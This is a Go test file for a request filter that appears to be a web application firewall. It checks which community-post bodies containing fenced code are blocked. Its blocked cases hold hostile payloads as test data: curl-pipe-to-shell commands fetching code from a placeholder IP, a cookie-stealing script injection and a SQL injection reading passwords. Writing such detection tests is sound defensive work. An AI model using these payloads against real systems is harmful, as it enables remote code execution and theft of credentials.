package filter

import (
	"encoding/json"
	"net/url"
	"testing"
)

func TestFencedMarkdownCode(t *testing.T) {
	eng := mustEngine(t, Config{})
	for _, c := range []struct {
		body    string
		blocked bool
	}{
		// Questions and answers that quote code in a fenced block.
		{"Here's what I tried:\n\n```bash\n#!/usr/bin/env bash\nset -euo pipefail\nfor f in exports/*.csv; do\n  echo \"$f: $(wc -l < \"$f\") rows\"\ndone\n```\n\nAny ideas?", false},
		{"Here's what I tried:\n\n```php\n<?php\n$total = array_sum(array_column($items, 'price'));\necho number_format($total, 2);\n\n```\n\nAny ideas?", false},
		{"My Flask template does not render:\n\n```jinja\n{{ config.items() }}\n```\nwhy?", false},
		{"Run this to list them:\n```\ncat /etc/os-release; uname -a\n```\nthen paste the output.", false},

		// What still blocks: code in the prose, markup and SQL anywhere,
		// an unclosed fence, a fence and nothing else.
		{"Thanks! ; curl http://203.0.113.9/x | sh\n```\nls\n```\nbye", true},
		{"Nice post\n```html\n</code><script>alert(document.cookie)</script>\n```\nreally", true},
		{"look at this\n```\nx' UNION SELECT password FROM users--\n```\nok?", true},
		{"Here's what I tried:\n```bash\n$(curl -s http://203.0.113.9/x | bash)\n", true},
		{"```bash\n$(curl -s http://203.0.113.9/x | bash)\n```", true},
	} {
		for _, form := range []bool{false, true} {
			var r = newReq("POST", "http://shop.example.com/api/v1/community/posts", "application/json", jsonBody(c.body))
			if form {
				r = newReq("POST", "http://shop.example.com/community/posts", "application/x-www-form-urlencoded", "title=Help&body_markdown="+url.QueryEscape(c.body))
			}
			d, err := eng.Inspect(r)
			if err != nil {
				t.Fatal(err)
			}
			if d.Blocked != c.blocked {
				t.Errorf("form=%v %q: blocked=%v, want %v: %v", form, c.body, d.Blocked, c.blocked, d.Matches)
			}
		}
	}
}

func jsonBody(markdown string) string {
	b, _ := json.Marshal(map[string]any{"title": "How do I do this?", "tags": []string{"api"}, "body_markdown": markdown})
	return string(b)
}

func FuzzFencedProse(f *testing.F) {
	for _, s := range []string{"a b c\n```\nx\n```\n", "```", "```\n```", "x\n  ```go\ny\n```"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if p, ok := fencedProse(s); ok && len(p) > len(s)+2 {
			t.Fatalf("%q: prose %q longer than the document", s, p)
		}
	})
}
